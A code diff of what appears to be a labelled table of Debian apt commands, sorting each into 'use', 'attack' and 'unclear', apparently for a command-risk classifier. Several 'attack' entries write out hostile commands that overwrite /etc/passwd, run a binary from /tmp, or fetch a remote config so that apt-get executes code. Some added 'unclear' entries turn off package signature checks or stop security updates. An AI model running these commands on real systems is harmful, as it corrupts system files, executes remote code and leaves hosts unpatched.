@@ -15,6 +15,9 @@ export const debianPackages1: ExampleTable = {
     attack: 'apport-unpack app.crash /etc/cron.d → read app.crash; unpack /etc/cron.d',
   },
   'apt-add-repository': {
+    unclear: [
+      `apt-add-repository 'deb [trusted=yes] https://example.net/ ./' → whose packages they are, for nobody has to sign them`,
+    ],
     use: 'apt-add-repository ppa:ann/tools → install apt-add-repository',
   },
   'apt-cache': {
@@ -38,6 +41,10 @@ export const debianPackages1: ExampleTable = {
     attack: 'apt-ftparchive --db /etc/passwd packages pool → write /etc/passwd',
   },
   'apt-get': {
+    unclear: [
+      `apt-get -o Acquire::AllowInsecureRepositories=true update → whose packages they are, for nobody has to sign them`,
+      `apt-get remove unattended-upgrades → which holes are not mended from then on`,
+    ],
     use: 'apt-get -c apt.conf update → read apt.conf',
     attack:
       'curl -so a.conf https://example.org/x && apt-get -c a.conf update → execute ‹https://example.org/x›',
@@ -131,7 +138,8 @@ export const debianPackages1: ExampleTable = {
     attack: 'apt-key --keyring /etc/passwd add release.asc → use release.asc; write /etc/passwd',
   },
   'apt-mark': {
-    use: 'apt-mark hold hello → nothing',
+    unclear: [`apt-mark hold openssh-server → which holes are not mended from then on`],
+    use: [`apt-mark hold kubelet → nothing`, 'apt-mark hold hello → nothing'],
     attack: 'apt-mark hold hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
   },
   'apt-sortpkgs': {
